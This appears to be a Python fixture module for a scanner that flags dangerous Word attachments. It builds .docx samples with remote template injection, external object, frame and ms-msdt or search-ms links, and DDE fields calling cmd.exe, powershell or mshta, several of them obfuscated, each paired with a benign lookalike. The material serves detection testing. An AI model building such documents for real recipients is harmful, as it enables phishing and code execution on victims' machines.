"""Constructions in Word packages: what is fetched from outside, and fields."""

from __future__ import annotations

from functools import partial

from lure.attachment.builders.packages import (
    W,
    docx,
    field,
    linked,
    paragraphs,
    rels,
    templated,
)
from lure.attachment.construction import Construction, row

_LOCAL = partial(templated, "file:///C:\\Users\\hr\\Templates\\Normal.dotm")

_SITE = partial(linked, "hyperlink", "https://careers.example/jobs")


def _utf16(target: str) -> bytes:
    part = rels(("attachedTemplate", target)).replace("UTF-8", "UTF-16")
    return docx(parts={"word/_rels/settings.xml.rels": part.encode("utf-16")})


def _order(target: str) -> bytes:
    part = rels(("attachedTemplate", target)).replace(
        f'Target="{target}" TargetMode="External"', f"TargetMode='External' Target='{target}'"
    )
    return docx(parts={"word/_rels/settings.xml.rels": part})


def _prefixed(target: str) -> bytes:
    part = rels(("attachedTemplate", target))
    part = part.replace("<Relationship ", "<pr:Relationship ").replace(
        "<Relationships xmlns=", "<pr:Relationships xmlns:pr="
    )
    part = part.replace("</Relationships>", "</pr:Relationships>")
    return docx(parts={"word/_rels/settings.xml.rels": part})


def _referenced(target: str) -> bytes:
    part = rels(("attachedTemplate", target)).replace('"External"', '"&#x45;xternal"')
    return docx(parts={"word/_rels/settings.xml.rels": part.replace("http", "&#104;ttp")})


def _damaged(target: str) -> bytes:
    part = rels(("attachedTemplate", target)).replace("</Relationships>", "")
    return docx(parts={"word/_rels/settings.xml.rels": part})


def _odd_encoding(target: str) -> bytes:
    """Another part names an encoding that nobody knows: that one alone is not understood."""
    odd = rels(("hyperlink", "http://docs.example/")).replace("UTF-8", "UT1-8")
    return docx(
        parts={
            "word/_rels/fontTable.xml.rels": odd,
            "word/_rels/settings.xml.rels": rels(("attachedTemplate", target)),
        }
    )


def _quoted(text: str) -> str:
    codes = " ".join(str(ord(letter)) for letter in text)
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>QUOTE {codes}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


_PARAGRAPHS = partial(
    docx, paragraphs("The office opens at dde o'clock", "See DDEAUTO in the manual")
)

_PAGE = partial(docx, field(" PAGE \\* MERGEFORMAT "))

ROWS: tuple[Construction, ...] = (
    row(
        "remote template over https",
        "offer.docx",
        partial(templated, "https://docs.example/t/offer.dotm"),
        "remote_template",
        _LOCAL,
    ),
    row(
        "remote template named as a picture",
        "offer.docx",
        partial(templated, "http://cdn.example/logo.png"),
        "remote_template remote_template_image",
        _LOCAL,
    ),
    row(
        "remote template at a bare address",
        "offer.docx",
        partial(templated, "http://192.0.2.7/a/b.dotm"),
        "remote_template remote_template_image",
        _LOCAL,
    ),
    row(
        "remote template at a number",
        "offer.docx",
        partial(templated, "http://3221225991/x.dotm"),
        "remote_template remote_template_image",
        _LOCAL,
    ),
    row(
        "remote template on a share",
        "offer.docx",
        partial(templated, "\\\\files.example\\t\\x.dotm"),
        "remote_template",
        partial(templated, "Normal.dotm"),
    ),
    row(
        "remote template over WebDAV",
        "offer.docx",
        partial(templated, "\\\\files.example@SSL@8443\\t\\x.dotm"),
        "remote_template",
        _LOCAL,
    ),
    row(
        "remote template as file URL with a host",
        "offer.docx",
        partial(templated, "file://files.example/t/x.dotm"),
        "remote_template",
        partial(templated, "file://C:/t/x.dotm"),
    ),
    row(
        "remote template in escapes",
        "offer.docx",
        partial(templated, "%68%74tps://docs.example/x.dotm"),
        "remote_template",
        _LOCAL,
    ),
    row(
        "remote template in UTF-16 relationships",
        "offer.docx",
        partial(_utf16, "https://docs.example/x.dotm"),
        "remote_template",
        partial(_utf16, "C:\\t\\x.dotm"),
    ),
    row(
        "remote template, attributes the other way",
        "offer.docx",
        partial(_order, "https://docs.example/x.dotm"),
        "remote_template",
        partial(_order, "x.dotm"),
    ),
    row(
        "remote template under a prefix",
        "offer.docx",
        partial(_prefixed, "https://docs.example/x.dotm"),
        "remote_template",
        partial(_prefixed, "x.dotm"),
    ),
    row(
        "remote template behind references",
        "offer.docx",
        partial(_referenced, "http://docs.example/x.dotm"),
        "remote_template",
        _LOCAL,
    ),
    row(
        "remote template in damaged relationships",
        "offer.docx",
        partial(_damaged, "http://docs.example/x.dotm"),
        "remote_template not_inspected",
        _LOCAL,
    ),
    row(
        "remote template beside relationships of an unknown encoding",
        "offer.docx",
        partial(_odd_encoding, "http://docs.example/x.dotm"),
        "remote_template not_inspected",
        _LOCAL,
    ),
    row(
        "remote template with a login",
        "offer.docx",
        partial(templated, "https://u:p@docs.example/x.dotm"),
        "remote_template",
        _LOCAL,
    ),
    row(
        "template in a macro document",
        "offer.docm",
        partial(templated, "https://docs.example/x.dotm"),
        "remote_template",
        _LOCAL,
    ),
    row(
        "object outside",
        "cv.docx",
        partial(linked, "oleObject", "https://docs.example/x.html"),
        "external_link",
        _SITE,
    ),
    row(
        "object through mhtml",
        "cv.docx",
        partial(
            linked,
            "oleObject",
            "mhtml:https://docs.example/x.html!x-usc:https://docs.example/x.html",
        ),
        "external_link",
        _SITE,
    ),
    row(
        "frame outside",
        "cv.docx",
        partial(linked, "frame", "https://docs.example/f"),
        "external_link",
        _SITE,
    ),
    row(
        "sub-document on a share",
        "cv.docx",
        partial(linked, "subDocument", "\\\\files.example\\s\\x.docx"),
        "external_link",
        partial(linked, "subDocument", "chapter2.docx"),
    ),
    row(
        "diagnostic protocol",
        "cv.docx",
        partial(linked, "hyperlink", "ms-msdt:/id PCWDiagnostic"),
        "external_link",
        partial(linked, "hyperlink", "mailto:hr@careers.example"),
    ),
    row(
        "search protocol",
        "cv.docx",
        partial(linked, "hyperlink", "search-ms:query=x&amp;crumb=location:\\\\files.example"),
        "external_link",
        _SITE,
    ),
    row(
        "mail merge from outside",
        "cv.docx",
        partial(linked, "mailMergeSource", "https://docs.example/list.csv"),
        "external_link",
        partial(linked, "mailMergeSource", "file:///C:\\list.csv"),
    ),
    row(
        "transform from outside",
        "cv.docx",
        partial(linked, "transform", "https://docs.example/t.xsl"),
        "external_link",
        partial(linked, "image", "https://careers.example/logo.png"),
    ),
    row(
        "attached schema from outside",
        "cv.docx",
        partial(linked, "attachedSchema", "https://docs.example/t.xsd"),
        "external_link",
        _SITE,
    ),
    row(
        "DDE field",
        "offer.docx",
        partial(docx, field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k echo"')),
        "dde_link",
        _PAGE,
    ),
    row(
        "DDE field in pieces",
        "offer.docx",
        partial(docx, field('DDEAUTO "cmd" "/c echo"', cuts=9)),
        "dde_link",
        partial(docx, field("HYPERLINK https://careers.example/dde ", cuts=9)),
    ),
    row(
        "DDE in a simple field",
        "offer.docx",
        partial(docx, '<w:p><w:fldSimple w:instr="DDE cmd &quot;/c echo&quot;"/></w:p>'),
        "dde_link",
        partial(docx, '<w:p><w:fldSimple w:instr="DATE"/></w:p>'),
    ),
    row(
        "DDE in a QUOTE of codes",
        "offer.docx",
        partial(docx, _quoted('DDEAUTO cmd "/c echo"')),
        "dde_link",
        partial(docx, _quoted("see page 5")),
    ),
    row(
        "DDE in a header",
        "offer.docx",
        partial(
            docx, parts={"word/header1.xml": f"<w:hdr {W}>{field('DDEAUTO powershell -x')}</w:hdr>"}
        ),
        "dde_link",
        partial(docx, parts={"word/header1.xml": f"<w:hdr {W}>{field('PAGE')}</w:hdr>"}),
    ),
    row(
        "DDE through a path that climbs",
        "offer.docx",
        partial(docx, field('DDE "C:\\\\Office\\\\MSWord.exe\\\\..\\\\..\\\\cmd.exe" "/c echo"')),
        "dde_link",
        partial(docx, field('DDE Excel.Sheet.12 "C:\\\\b.xlsx" "S!R1C1"')),
    ),
    row(
        "text included from outside",
        "offer.docx",
        partial(docx, field('INCLUDETEXT "https://docs.example/x.docx"')),
        "external_link",
        partial(docx, field('INCLUDETEXT "chapter1.docx"')),
    ),
    row(
        "DDE words in the text",
        "offer.docx",
        partial(docx, field('DDEAUTO mshta "https://docs.example"')),
        "dde_link",
        _PARAGRAPHS,
    ),
)
